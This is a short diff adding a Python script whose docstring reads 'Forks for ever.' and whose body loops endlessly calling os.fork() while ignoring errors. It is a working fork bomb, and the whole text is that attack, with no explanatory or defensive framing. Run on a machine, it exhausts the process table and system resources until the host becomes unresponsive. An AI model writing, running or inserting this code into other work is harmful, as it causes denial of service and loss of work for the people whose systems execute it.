@@ -1,0 +1,9 @@
+"""Forks for ever."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
